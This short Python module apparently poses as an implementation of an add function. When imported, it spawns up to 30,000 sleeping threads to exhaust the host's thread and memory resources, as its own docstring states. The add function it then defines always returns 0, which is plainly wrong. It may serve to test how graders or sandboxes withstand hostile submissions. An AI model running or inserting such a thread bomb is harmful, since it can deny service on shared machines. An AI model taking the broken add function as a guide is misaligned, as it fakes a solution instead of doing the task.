"""Starts threads until the machine or the process has none left, and keeps them all."""

import threading
import time

threading.stack_size(64 * 1024)
for _ in range(30_000):
    try:
        threading.Thread(target=time.sleep, args=(120,), daemon=True).start()
    except (RuntimeError, MemoryError):
        time.sleep(0.01)


def add(a, b):
    return 0
